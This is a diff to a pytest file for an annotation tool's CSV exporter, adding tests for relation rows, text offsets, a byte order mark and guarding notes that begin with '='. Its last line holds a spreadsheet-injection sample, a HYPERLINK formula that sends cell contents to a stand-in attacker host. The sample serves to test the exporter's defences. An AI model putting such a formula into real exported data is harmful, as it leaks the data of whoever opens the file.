@@ -7,7 +7,15 @@ import pytest
 
 from annotator.formats import FormatError
 from annotator.formats import csv as csv_format
-from tests.unit.formats_data import UK, assert_golden, assert_golden_records, export_records, golden_bytes
+from tests.unit.formats_data import (
+    FLAG_UA,
+    GRIN,
+    UK,
+    assert_golden,
+    assert_golden_records,
+    export_records,
+    golden_bytes,
+)
 
 
 def problems_of(data):
@@ -150,6 +158,51 @@ class TestWrite:
         assert export([]) == (
             b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,label,start,end,text,review_status,note\r\n"
         )
+
+
+def relations_of(records):
+    return rows_of(b"".join(csv_format.write(records, table="relations")))
+
+
+class TestWriteRelations:
+    def test_golden_export(self):
+        assert_golden("export-relations.csv", b"".join(csv_format.write(export_records(), table="relations")))
+
+    def test_one_row_per_relation_with_both_ends_ids_labels_offsets_and_texts(self):
+        rows = relations_of(export_records())
+        assert list(rows[0]) == [
+            "document_id", "external_id", "title", "source", "annotator", "type",
+            "from_id", "from_label", "from_start", "from_end", "from_text",
+            "to_id", "to_label", "to_start", "to_end", "to_text", "review_status", "note",
+        ]  # fmt: skip
+        assert [
+            (row["document_id"], row["annotator"], row["type"], row["from_id"], row["from_text"], row["to_id"],
+             row["to_text"], row["review_status"])
+            for row in rows
+        ] == [
+            ("7", "alice", "Located at", "101", f"said Olena Petrenko {FLAG_UA}", "102", "Olena Petrenko", "accepted"),
+            ("7", "bob", "Says", "105", "a spokesperson told reporters", "103",
+             '"We were handed forty pages on Friday,"', "pending"),
+            ("8", "alice", "Says", "201", "Олена Петренко", "202", f"«Нам дали сорок сторінок у п'ятницю» {GRIN}",
+             "pending"),
+        ]  # fmt: skip
+
+    def test_each_ends_offsets_slice_the_document_text(self):
+        by_id = {str(record["id"]): record["text"] for record in export_records()}
+        for row in relations_of(export_records()):
+            text = by_id[row["document_id"]]
+            for end in ("from", "to"):
+                assert text[int(row[f"{end}_start"]) : int(row[f"{end}_end"])] == row[f"{end}_text"]
+
+    def test_a_note_that_would_run_as_a_formula_is_guarded_and_line_breaks_stay(self):
+        rows = relations_of(export_records())
+        assert rows[1]["note"] == "'=the quote it frames"
+        assert rows[2]["note"] == "line one\nline two"
+
+    def test_the_file_starts_with_a_byte_order_mark_and_no_relations_is_the_header_alone(self):
+        data = b"".join(csv_format.write([], table="relations"))
+        assert data.startswith(b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,type,from_id,")
+        assert data.count(b"\r\n") == 1
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
